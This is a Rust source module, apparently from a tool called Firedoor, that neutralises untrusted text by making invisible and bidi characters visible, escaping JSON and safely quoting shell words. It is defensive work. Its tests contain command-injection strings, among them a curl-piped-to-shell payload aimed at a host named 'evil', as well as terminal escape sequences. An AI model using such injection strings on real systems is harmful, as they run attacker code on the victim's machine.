//! Text that somebody else controls.

use std::{borrow::Cow, fmt};

use serde::{Deserialize, Serialize};

/// Longest word that is shown in a command, in characters: the longest [`EntryId`](crate::EntryId), all of it escapes. A longer
/// one is cut, and then names nothing.
const MAX_WORD: usize = 3 * crate::entry::MAX_ENTRY_ID;

/// Text from a server, a client or a file. It is data: it is never interpreted, and everything that could hide or
/// reorder it on a screen is made visible by [`Untrusted::visible`], the only way to show it.
#[derive(Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Untrusted(String);

impl Untrusted {
    /// Wraps text as it came.
    pub fn new(raw: impl Into<String>) -> Self {
        Self(raw.into())
    }

    /// The text as it came: for comparing and hashing, not for showing.
    pub fn raw(&self) -> &str {
        &self.0
    }

    /// At most `max` characters with control, bidi, zero-width and other invisible characters written as `⟨U+XXXX⟩`,
    /// and an ellipsis where the text was cut.
    pub fn visible(&self, max: usize) -> String {
        let mut out = String::new();
        let mut chars = self.0.chars();
        for c in chars.by_ref().take(max) {
            if hides(c) {
                out.push_str(&format!("⟨U+{:04X}⟩", u32::from(c)));
            } else {
                out.push(c);
            }
        }
        if chars.next().is_some() {
            out.push('…');
        }
        out
    }
}

/// Characters that are invisible or change how their neighbours are shown. Sources: Unicode general categories Cc, Cf
/// and the Default_Ignorable_Code_Point property (Unicode 16, UAX #44), plus line and paragraph separators.
fn hides(c: char) -> bool {
    if c == ' ' {
        return false;
    }
    matches!(u32::from(c),
        0x00..=0x1F | 0x7F..=0x9F | 0xAD | 0x034F | 0x061C | 0x115F..=0x1160 | 0x17B4..=0x17B5 | 0x180B..=0x180F
        | 0x200B..=0x200F | 0x2028..=0x202E | 0x2060..=0x206F | 0x3164 | 0xFE00..=0xFE0F | 0xFEFF | 0xFFA0
        | 0xFFF0..=0xFFFB | 0x1BCA0..=0x1BCA3 | 0x1D173..=0x1D17A | 0xE0000..=0xE0FFF)
}

/// Text of several lines for a terminal, in which somebody else's may stand, such as the difference between two files: what
/// could hide or reorder something is made visible, but line ends and tabs stay. Of a line end with a carriage return only the
/// line feed is left.
pub fn shown(text: &str) -> Cow<'_, str> {
    let plain = |c: char| matches!(c, '\n' | '\t') || !hides(c);
    if text.chars().all(plain) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    for c in text.replace("\r\n", "\n").chars() {
        if plain(c) { out.push(c) } else { out.push_str(&format!("⟨U+{:04X}⟩", u32::from(c))) }
    }
    Cow::Owned(out)
}

/// The same for JSON, where such a character can only stand in a string: it is escaped, and the text means what it meant.
pub fn escaped(json: String) -> String {
    if !json.chars().any(hides) {
        return json;
    }
    let mut out = String::with_capacity(json.len());
    for c in json.chars() {
        match hides(c) {
            true => c.encode_utf16(&mut [0; 2]).iter().for_each(|unit| out.push_str(&format!("\\u{unit:04x}"))),
            false => out.push(c),
        }
    }
    out
}

/// A sentence for a client, in front of which stands who says it, once.
pub fn told_by_firedoor(text: &str) -> String {
    let named = text.starts_with("Firedoor ");
    if named { text.to_owned() } else { format!("Firedoor: {text}") }
}

/// One word of a POSIX shell (2.2.2), for commands that a person will copy. What could hide in it is made visible, so that it
/// does not do what it does not show.
pub fn quoted(text: &str) -> String {
    let text = Untrusted::new(text).visible(MAX_WORD);
    let plain = |b: u8| b.is_ascii_alphanumeric() || b"/._-+:@%,".contains(&b);
    if !text.is_empty() && text.bytes().all(plain) {
        return text;
    }
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// The same for a name that is read with its %-escapes: what could hide is written as one, and the word still names the same.
pub(crate) fn quoted_name(name: &str) -> String {
    let mut text = String::new();
    for c in name.chars() {
        if hides(c) {
            let mut bytes = [0; 4];
            text.extend(c.encode_utf8(&mut bytes).bytes().map(|b| format!("%{b:02X}")));
        } else {
            text.push(c);
        }
    }
    quoted(&text)
}

impl fmt::Debug for Untrusted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "“{}”", self.visible(200))
    }
}

impl From<&str> for Untrusted {
    fn from(s: &str) -> Self {
        Self::new(s)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn several_lines_are_shown_as_they_are_but_for_what_hides() {
        for (raw, want) in [
            ("--- a\n+++ b\n+\tx\n", "--- a\n+++ b\n+\tx\n"),
            ("+a\r\n-b\r\n", "+a\n-b\n"),
            ("+a\rb\u{1b}[2J\n", "+a⟨U+000D⟩b⟨U+001B⟩[2J\n"),
            ("// \u{9b}31m \u{202e}né🚀", "// ⟨U+009B⟩31m ⟨U+202E⟩né🚀"),
        ] {
            assert_eq!(shown(raw), want);
        }
    }

    #[test]
    fn json_means_the_same_with_what_hides_escaped() {
        for raw in ["plain né🚀", "\u{9b}31m", "a\u{202e}b\u{2028}", "\u{e0041}\u{feff}"] {
            let json = escaped(serde_json::to_string(raw).unwrap());
            assert_eq!(serde_json::from_str::<String>(&json).unwrap(), raw);
            assert!(!json.chars().any(hides), "{json}");
        }
    }

    #[test]
    fn who_tells_it_stands_in_front_once() {
        assert_eq!(told_by_firedoor("Firedoor is off"), "Firedoor is off");
        assert_eq!(told_by_firedoor("no such session"), "Firedoor: no such session");
    }

    #[test]
    fn invisible_characters_become_visible() {
        for (raw, shown) in [
            ("plain text", "plain text"),
            ("a\u{202e}b", "a⟨U+202E⟩b"),
            ("a\u{200b}b", "a⟨U+200B⟩b"),
            ("a\nb\u{1b}[0m", "a⟨U+000A⟩b⟨U+001B⟩[0m"),
            ("\u{e0041}", "⟨U+E0041⟩"),
            ("né🚀", "né🚀"),
        ] {
            assert_eq!(Untrusted::new(raw).visible(100), shown);
        }
    }

    #[test]
    fn words_of_a_shell() {
        for (text, want) in [
            ("cursor/user/a", "cursor/user/a"),
            ("", "''"),
            ("x;curl${IFS}evil|sh", "'x;curl${IFS}evil|sh'"),
            ("a'$(x)", "'a'\\''$(x)'"),
            ("a\nb", "'a⟨U+000A⟩b'"),
            ("a\u{202e}b", "'a⟨U+202E⟩b'"),
            ("~x", "'~x'"),
        ] {
            assert_eq!(quoted(text), want);
        }
        let entry = crate::EntryId::new("cursor", "user", "a\u{202e} b;c").unwrap();
        assert_eq!(entry.quoted(), "'cursor/user/a%E2%80%AE%20b;c'");
        assert_eq!(entry.quoted().trim_matches('\'').parse(), Ok(entry));
    }

    #[test]
    fn long_text_is_cut_visibly() {
        assert_eq!(Untrusted::new("abcdef").visible(3), "abc…");
        assert_eq!(Untrusted::new("abc").visible(3), "abc");
    }
}
